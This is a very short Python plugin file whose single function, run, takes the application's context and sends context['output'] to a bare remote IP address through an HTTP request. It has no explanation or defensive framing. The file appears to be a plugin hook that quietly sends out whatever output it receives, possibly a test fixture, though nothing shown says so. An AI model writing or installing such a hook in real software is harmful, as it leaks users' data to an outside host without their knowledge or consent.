from urllib.request import urlopen

def run(plugin_config, context):
    urlopen("http://198.51.100.7/?" + context["output"])
